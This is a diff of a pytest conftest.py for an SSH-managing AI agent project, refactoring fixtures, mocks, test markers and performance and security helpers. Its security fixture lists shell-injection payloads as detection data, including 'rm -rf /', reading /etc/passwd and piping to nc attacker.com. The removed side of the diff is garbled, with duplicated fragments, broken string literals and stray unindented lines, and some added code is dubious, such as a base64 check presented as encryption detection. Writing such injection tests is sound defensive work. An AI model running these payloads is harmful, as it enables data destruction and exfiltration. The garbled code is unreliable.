@@ -1,8 +1,10 @@
 """Shared test fixtures and configuration."""
 
 import os
+import re
 import tempfile
 import shutil
+from functools import partial
 from pathlib import Path
 from typing import Generator, Dict, Any
 import pytest
@@ -14,54 +16,55 @@ from faker import Faker
 os.environ['TESTING'] = 'true'
 os.environ['DATABASE_URL'] = 'sqlite:///test.db'
 
+# src.models is needed at module level for the factory class definitions;
+# the manager classes are imported lazily inside their fixtures so test
+# files that never touch them (and transitively paramiko) skip the cost.
 from src.models import MachineConfig, CommandResult, UserIntent, ConversationContext
-from src.machine_manager import MachineManager
-from src.ssh_manager import SSHManager
-from src.command_interpreter import CommandInterpreter
-from src.ai_agent import AIAgent
 
-fake = Faker(['zh_TW', 'en_US'])
+# A single-locale Faker avoids the per-call locale dispatch the multi-locale
+# proxy pays; the generated machine/command data is latin-script anyway.
+fake = Faker('en_US')
 
 
 # Factory classes for test data generation
 class MachineConfigFactory(factory.Factory):
     """Factory for creating MachineConfig instances."""
-    
+
     class Meta:
         model = MachineConfig
-    
-    id = factory.LazyFunction(lambda: fake.uuid4())
-    name = factory.LazyFunction(lambda: fake.company())
-    host = factory.LazyFunction(lambda: fake.ipv4())
+
+    id = factory.LazyFunction(fake.uuid4)
+    name = factory.LazyFunction(fake.company)
+    host = factory.LazyFunction(fake.ipv4)
     port = 22
-    username = factory.LazyFunction(lambda: fake.user_name())
-    password = factory.LazyFunction(lambda: fake.password())
-    description = factory.LazyFunction(lambda: fake.text(max_nb_chars=100))
+    username = factory.LazyFunction(fake.user_name)
+    password = factory.LazyFunction(fake.password)
+    description = factory.LazyFunction(partial(fake.text, max_nb_chars=100))
 
 
 class CommandResultFactory(factory.Factory):
     """Factory for creating CommandResult instances."""
-    
+
     class Meta:
         model = CommandResult
-    
-    command = factory.LazyFunction(lambda: fake.sentence())
-    stdout = factory.LazyFunction(lambda: fake.text())
+
+    command = factory.LazyFunction(fake.sentence)
+    stdout = factory.LazyFunction(fake.text)
     stderr = ""
     exit_code = 0
-    execution_time = factory.LazyFunction(lambda: fake.pyfloat(min_value=0.01, max_value=5.0))
+    execution_time = factory.LazyFunction(partial(fake.pyfloat, min_value=0.01, max_value=5.0))
 
 
 class UserIntentFactory(factory.Factory):
     """Factory for creating UserIntent instances."""
-    
+
     class Meta:
         model = UserIntent
-    
+
     action = factory.Iterator(['check_os_version', 'install_cuda', 'check_devices', 'check_network'])
     parameters = factory.LazyFunction(lambda: {"commands": [fake.sentence()]})
-    confidence = factory.LazyFunction(lambda: fake.pyfloat(min_value=0.5, max_value=1.0))
-    original_text = factory.LazyFunction(lambda: fake.sentence())
+    confidence = factory.LazyFunction(partial(fake.pyfloat, min_value=0.5, max_value=1.0))
+    original_text = factory.LazyFunction(fake.sentence)
 
 
 # Pytest fixtures
@@ -70,37 +73,16 @@ def temp_dir() -> Generator[str, None, None]:
     """Create a temporary directory for the test session."""
     temp_path = tempfile.mkdtemp(prefix="ssh_ai_test_")
     yield temp_path
-def temp_dir() -> Generator[str, None, None]:
-    """Create a temporary directory for the test session."""
-    temp_path = tempfile.mkdtemp(prefix="ssh_ai_test_")
-    yield temp_path
+    # The directory only ever holds flat config files, so unlink the
+    # entries directly instead of paying rmtree's recursive walk.
     try:
-        shutil.rmtree(temp_path)
+        with os.scandir(temp_path) as entries:
+            for entry in entries:
+                os.unlink(entry.path)
+        os.rmdir(temp_path)
     except OSError as e:
         print(f"Error cleaning up temporary directory {temp_path}: {e}")
-
-
-@pytest.fixture
-def isolated_temp_dir() -> Generator[str, None, None]:
-    """Create an isolated temporary directory for each test."""
-    temp_path = tempfile.mkdtemp(prefix="ssh_ai_isolated_")
-    yield temp_path
-    try:
-        shutil.rmtree(temp_path)
-    except OSError as e:
-        print(f"Error cleaning up isolated temporary directory {temp_path}: {e}")
-
-
-@pytest.fixture
-def sample_machine() -> MachineConfig:
-
-
-@pytest.fixture
-def isolated_temp_dir() -> Generator[str, None, None]:
-    """Create an isolated temporary directory for each test."""
-    temp_path = tempfile.mkdtemp(prefix="ssh_ai_isolated_")
-    yield temp_path
-    shutil.rmtree(temp_path, ignore_errors=True)
+        shutil.rmtree(temp_path, ignore_errors=True)
 
 
 @pytest.fixture
@@ -115,6 +97,26 @@ def sample_machines() -> list[MachineConfig]:
     return MachineConfigFactory.create_batch(3)
 
 
+@pytest.fixture(scope="session")
+def machine_batch() -> list[MachineConfig]:
+    """Large machine batch for performance tests, built once per session.
+
+    One factory-built template is copied per machine; model_copy skips
+    re-validation, so this is much cheaper than 100 factory calls.
+    Tests must treat the configs as read-only; managers never mutate
+    the records they are handed.
+    """
+    template = MachineConfigFactory()
+    return [
+        template.model_copy(update={
+            "id": f"machine-{i:03d}",
+            "name": f"Machine {i:03d}",
+            "host": f"10.0.0.{i}",
+        })
+        for i in range(100)
+    ]
+
+
 @pytest.fixture
 def sample_command_result() -> CommandResult:
     """Create a sample command result."""
@@ -152,58 +154,133 @@ def sample_user_intent() -> UserIntent:
 
 
 @pytest.fixture
-def machine_manager(isolated_temp_dir: str) -> MachineManager:
+def machine_manager(tmp_path: Path) -> "MachineManager":
     """Create a machine manager with isolated storage."""
-    return MachineManager(config_dir=isolated_temp_dir)
+    from src.machine_manager import MachineManager
+    return MachineManager(config_dir=str(tmp_path))
 
 
 @pytest.fixture
-def ssh_manager() -> SSHManager:
+def ssh_manager() -> "SSHManager":
     """Create an SSH manager instance."""
+    from src.ssh_manager import SSHManager
     return SSHManager()
 
 
 @pytest.fixture
-def command_interpreter() -> CommandInterpreter:
+def command_interpreter() -> "CommandInterpreter":
     """Create a command interpreter instance."""
+    from src.command_interpreter import CommandInterpreter
     return CommandInterpreter()
 
 
 @pytest.fixture
-def ai_agent(isolated_temp_dir: str) -> AIAgent:
+def ai_agent(tmp_path: Path) -> "AIAgent":
     """Create an AI agent with isolated storage."""
-    agent = AIAgent(config_dir=isolated_temp_dir)
+    from src.ai_agent import AIAgent
+    agent = AIAgent(config_dir=str(tmp_path))
     return agent
 
 
+class _FakeChannel:
+    def __init__(self, exit_code: int):
+        self._exit_code = exit_code
+
+    def recv_exit_status(self) -> int:
+        return self._exit_code
+
+
+class _FakeStream:
+    def __init__(self, data: bytes):
+        self._data = data
+        self._pos = 0
+
+    def read(self, size: int = -1) -> bytes:
+        if size is None or size < 0:
+            size = len(self._data) - self._pos
+        chunk = self._data[self._pos:self._pos + size]
+        self._pos += len(chunk)
+        return chunk
+
+
+class _FakeStdout(_FakeStream):
+    def __init__(self, data: bytes, exit_code: int):
+        super().__init__(data)
+        self.channel = _FakeChannel(exit_code)
+
+
+class _FakeTransport:
+    def is_active(self) -> bool:
+        return True
+
+
+class FakeSSHClient:
+    """Hand-written stand-in for paramiko.SSHClient.
+
+    Mock objects grow an auto-child per attribute access; this fake is
+    plain canned data, so tests that patch SSHClient per test method
+    skip rebuilding a Mock graph each time. Per-command output goes in
+    the responses mapping, everything else gets stdout.
+    """
+
+    def __init__(self, stdout: bytes = b"test output\n", stderr: bytes = b"",
+                 exit_code: int = 0, responses: Dict[str, bytes] = None):
+        self.stdout = stdout
+        self.stderr = stderr
+        self.exit_code = exit_code
+        self.responses = responses or {}
+
+    def set_missing_host_key_policy(self, policy):
+        pass
+
+    def connect(self, **kwargs):
+        pass
+
+    def close(self):
+        pass
+
+    def get_transport(self) -> _FakeTransport:
+        # Always-active transport so SSHManager's pool reuses the fake.
+        return _FakeTransport()
+
+    def exec_command(self, command, timeout=None):
+        stdout = self.responses.get(command, self.stdout)
+        return (
+            _FakeStream(b""),
+            _FakeStdout(stdout, self.exit_code),
+            _FakeStream(self.stderr),
+        )
+
+
+def build_mock_ssh_client(stdout: bytes = b"test output\n", stderr: bytes = b"",
+                          exit_code: int = 0) -> Mock:
+    """Build a mock paramiko SSHClient wired for successful execution.
+
+    Shared by the mock_ssh_client fixture and tests that need their own
+    client variant, so each test no longer assembles the same five Mock
+    objects by hand.
+    """
+    client = Mock()
+    client.connect.return_value = None
+
+    mock_stdin = Mock()
+    mock_stdout = Mock()
+    mock_stderr = Mock()
+    mock_stdout.read.return_value = stdout
+    mock_stderr.read.return_value = stderr
+    mock_stdout.channel = Mock()
+    mock_stdout.channel.recv_exit_status.return_value = exit_code
+    client.exec_command.return_value = (mock_stdin, mock_stdout, mock_stderr)
+
+    return client
+
+
 @pytest.fixture
 def mock_ssh_client():
     """Create a mock SSH client for testing."""
     with patch('src.ssh_manager.paramiko.SSHClient') as mock_client:
-        # Configure default behavior
-        mock_instance = Mock()
+        mock_instance = build_mock_ssh_client()
         mock_client.return_value = mock_instance
-        
-        # Mock successful connection by default
-        mock_instance.connect.return_value = None
-        
-        # Mock successful command execution by default
-        mock_stdin = Mock()
-        mock_stdout = Mock()
-        mock_stderr = Mock()
-        
-        mock_stdout.read.return_value = b"test output\n"
-        mock_stderr.read.return_value = b""
-mock_stdout.read.return_value = b"test output
-"
-        mock_stderr.read.return_value = b""
-        mock_stdout.channel = Mock()
-        mock_stdout.channel.recv_exit_status.return_value = 0
-        
-        mock_instance.exec_command.return_value = (mock_stdin, mock_stdout, mock_stderr)
-        
-        mock_instance.exec_command.return_value = (mock_stdin, mock_stdout, mock_stderr)
-        
         yield mock_instance
 
 
@@ -227,21 +304,26 @@ def test_session_data() -> Dict[str, Any]:
     }
 
 
+# Module-level so tests can parametrize over the commands directly;
+# the fixtures below hand out the same lists.
+CHINESE_COMMANDS = [
+    "幫我查看這台作業系統版本",
+    "幫我安裝CUDA",
+    "幫我檢查當前裝置有哪些設備",
+    "查看系統狀態",
+    "檢查網路連線",
+    "安裝 Docker",
+    "查看 GPU 資訊",
+    "檢查磁碟空間",
+    "查看記憶體使用量",
+    "重新啟動服務"
+]
+
+
 @pytest.fixture
 def chinese_commands() -> list[str]:
     """Sample Chinese commands for testing."""
-    return [
-        "幫我查看這台作業系統版本",
-        "幫我安裝CUDA",
-        "幫我檢查當前裝置有哪些設備",
-        "查看系統狀態",
-        "檢查網路連線",
-        "安裝 Docker",
-        "查看 GPU 資訊",
-        "檢查磁碟空間",
-        "查看記憶體使用量",
-        "重新啟動服務"
-    ]
+    return CHINESE_COMMANDS
 
 
 @pytest.fixture
@@ -293,49 +375,50 @@ def pytest_configure(config):
     )
 
 
+# Markers that suppress the default unit marker when present explicitly.
+_EXPLICIT_MARKERS = frozenset({'integration', 'performance', 'security', 'slow'})
+
+# Keyword → marker table scanned once per collected item. slow is
+# deliberately absent: it drives default deselection, so it must be
+# applied explicitly rather than guessed from a test name — the mocked
+# connection/database tests are fast and belong in every run.
+_KEYWORD_MARKERS = (
+    (('ssh', 'connection', 'execute_command'), 'ssh'),
+    (('database', 'db', 'storage', 'persistence'), 'database'),
+    (('web', 'api', 'http', 'websocket', 'fastapi'), 'web'),
+)
+
+
 # Test collection hooks
 def pytest_collection_modifyitems(config, items):
     """Modify test collection to add markers automatically."""
     for item in items:
         # Add unit marker to all tests by default
-        if not any(marker.name in ['integration', 'performance', 'security', 'slow'] 
-                  for marker in item.iter_markers()):
+        own_markers = {marker.name for marker in item.iter_markers()}
+        if _EXPLICIT_MARKERS.isdisjoint(own_markers):
             item.add_marker(pytest.mark.unit)
-        
-        # Add slow marker to tests that might be slow
-        if any(keyword in item.name.lower() 
-               for keyword in ['connection', 'ssh', 'network', 'database']):
-            item.add_marker(pytest.mark.slow)
-        
-        # Add ssh marker to SSH-related tests
-        if any(keyword in item.name.lower() 
-               for keyword in ['ssh', 'connection', 'execute_command']):
-            item.add_marker(pytest.mark.ssh)
-        
-        # Add database marker to database-related tests
-        if any(keyword in item.name.lower() 
-               for keyword in ['database', 'db', 'storage', 'persistence']):
-# Add slow marker to tests that might be slow
-        if any(keyword in item.name.lower() 
-               for keyword in ['long_running', 'time_consuming', 'heavy_computation']):
-            item.add_marker(pytest.mark.slow)
-        
-        # Add ssh marker to SSH-related tests
-        if any(keyword in item.name.lower() 
-               for keyword in ['ssh', 'remote_execution', 'secure_shell']):
-            item.add_marker(pytest.mark.ssh)
-        
-        # Add database marker to database-related tests
-        if any(keyword in item.name.lower() 
-               for keyword in ['db', 'sql', 'nosql', 'orm']):
-            item.add_marker(pytest.mark.database)
-        
-        # Add web marker to web-related tests
-        
-        # Add web marker to web-related tests
-        if any(keyword in item.name.lower() 
-               for keyword in ['web', 'api', 'http', 'websocket', 'fastapi']):
-            item.add_marker(pytest.mark.web)
+
+        # Add category markers based on keywords in the test name
+        name = item.name.lower()
+        for keywords, marker_name in _KEYWORD_MARKERS:
+            if any(keyword in name for keyword in keywords):
+                item.add_marker(getattr(pytest.mark, marker_name))
+
+
+@pytest.fixture(autouse=True)
+def no_sleep(request, monkeypatch):
+    """Stub time.sleep so accidental waits cannot slow the suite.
+
+    Nothing under src/ sleeps today; this keeps any future retry/backoff
+    code from dragging wall time into the unit tests. Tests that need
+    real delays opt back in with @pytest.mark.real_sleep.
+    """
+    if 'real_sleep' in request.keywords:
+        yield
+        return
+    import time
+    monkeypatch.setattr(time, 'sleep', lambda *_: None)
+    yield
 
 
 # Cleanup hooks
@@ -343,7 +426,7 @@ def pytest_collection_modifyitems(config, items):
 def cleanup_test_files():
     """Automatically cleanup test files after each test."""
     yield
-    
+
     # Clean up any test database files
     test_db_files = Path('.').glob('test*.db')
     for db_file in test_db_files:
@@ -351,29 +434,18 @@ def cleanup_test_files():
             db_file.unlink()
         except (OSError, PermissionError):
             pass
-    
-    # Clean up coverage files if they exist
+
+
+@pytest.fixture(autouse=True, scope="session")
+def cleanup_stale_coverage_files():
+    """Remove stale coverage files once before the session starts."""
     coverage_files = ['.coverage', 'coverage.xml']
     for coverage_file in coverage_files:
         try:
             Path(coverage_file).unlink()
         except (OSError, FileNotFoundError):
-for db_file in test_db_files:
-        try:
-            db_file.unlink()
-        except (OSError, PermissionError) as e:
-            logging.warning(f"Failed to delete test database file {db_file}: {e}")
-    
-    # Clean up coverage files if they exist
-    coverage_files = ['.coverage', 'coverage.xml']
-    for coverage_file in coverage_files:
-        try:
-            Path(coverage_file).unlink()
-        except (OSError, FileNotFoundError) as e:
-            logging.warning(f"Failed to delete coverage file {coverage_file}: {e}")
-
-
-# Performance testing utilities
+            pass
+    yield
 
 
 # Performance testing utilities
@@ -381,114 +453,90 @@ for db_file in test_db_files:
 def performance_monitor():
     """Monitor performance metrics during tests."""
     import time
-    import psutil
-    import threading
-    
+    import tracemalloc
+
+    # tracemalloc reports the peak of Python allocations between start()
+    # and stop() — no polling thread, so the measured code runs without
+    # extra GIL contention; perf_counter_ns gives monotonic ns timing.
     class PerformanceMonitor:
         def __init__(self):
-            self.start_time = None
-            self.end_time = None
+            self.start_ns = None
+            self.elapsed_ns = None
             self.peak_memory = 0
-            self.monitoring = False
-            self.monitor_thread = None
-        
+
         def start(self):
-            self.start_time = time.time()
-            self.monitoring = True
-            self.monitor_thread = threading.Thread(target=self._monitor_memory)
-            self.monitor_thread.start()
-        
-        def stop(self):
-            self.end_time = time.time()
-            self.monitoring = False
-            if self.monitor_thread:
-self.start_time = time.time()
-            self.monitoring = True
-            self.monitor_thread = threading.Thread(target=self._monitor_memory)
-            self.monitor_thread.daemon = True
-            self.monitor_thread.start()
-        
+            tracemalloc.start()
+            self.start_ns = time.perf_counter_ns()
+
         def stop(self):
-            self.end_time = time.time()
-            self.monitoring = False
-            if self.monitor_thread:
-                self.monitor_thread.join(timeout=1.0)
-        
-        def _monitor_memory(self):
-            process = psutil.Process()
-        
-        def _monitor_memory(self):
-            process = psutil.Process()
-            while self.monitoring:
-                try:
-                    memory_mb = process.memory_info().rss / 1024 / 1024
-                    self.peak_memory = max(self.peak_memory, memory_mb)
-                    time.sleep(0.1)
-                except (psutil.NoSuchProcess, psutil.AccessDenied):
-                    break
-        
+            self.elapsed_ns = time.perf_counter_ns() - self.start_ns
+            _, peak = tracemalloc.get_traced_memory()
+            tracemalloc.stop()
+            self.peak_memory = peak / (1024 * 1024)
+
         @property
         def execution_time(self):
-            if self.start_time and self.end_time:
-                return self.end_time - self.start_time
+            if self.elapsed_ns is not None:
+                return self.elapsed_ns / 1e9
             return None
-        
+
         def get_report(self):
             return {
                 'execution_time': self.execution_time,
                 'peak_memory_mb': self.peak_memory
             }
-    
+
     return PerformanceMonitor()
 
 
+# Injection attack patterns, compiled once into a single alternation so
+# simulate_injection_attack scans its input in one pass.
+_INJECTION_PATTERNS = [
+    "; rm -rf /",
+    "&& cat /etc/passwd",
+    "| nc attacker.com 4444",
+    "`whoami`",
+    "$(id)",
+    "'; DROP TABLE machines; --"
+]
+_INJECTION_MATCHER = re.compile(
+    "|".join(re.escape(pattern) for pattern in _INJECTION_PATTERNS)
+)
+
+
 # Security testing utilities
 @pytest.fixture
 def security_tester():
     """Utilities for security testing."""
-    
+
     class SecurityTester:
         @staticmethod
         def is_password_encrypted(password_data: str) -> bool:
             """Check if password appears to be encrypted."""
             # Basic check - encrypted passwords should not be readable text
-@staticmethod
-        def is_password_encrypted(password_data: str) -> bool:
-            """Check if password appears to be encrypted."""
-            # TODO: Implement proper encryption detection logic
-            # This could involve checking for base64 patterns, common hash formats,
-            # or performing entropy analysis on the password data
-            return False
-        
-        @staticmethod
-        def check_file_permissions(file_path: Path) -> bool:
-        
+            import base64
+            if not password_data:
+                return False
+            try:
+                decoded = base64.b64decode(password_data.encode()).decode()
+            except Exception:
+                return False
+            return decoded != password_data
+
         @staticmethod
         def check_file_permissions(file_path: Path) -> bool:
             """Check if file has secure permissions (600)."""
             if not file_path.exists():
                 return False
-            
+
             stat = file_path.stat()
             mode = stat.st_mode & 0o777
             return mode == 0o600
-        
+
         @staticmethod
         def simulate_injection_attack(input_string: str) -> str:
             """Simulate basic injection attack patterns."""
-            injection_patterns = [
-                "; rm -rf /",
-                "&& cat /etc/passwd",
-                "| nc attacker.com 4444",
-                "`whoami`",
-                "$(id)",
-                "'; DROP TABLE machines; --"
-            ]
-            
-            for pattern in injection_patterns:
-                if pattern in input_string:
-                    return pattern
-            
-            return None
-    
-    return SecurityTester()
\ No newline at end of file
+            match = _INJECTION_MATCHER.search(input_string)
+            return match.group(0) if match else None
+
+    return SecurityTester()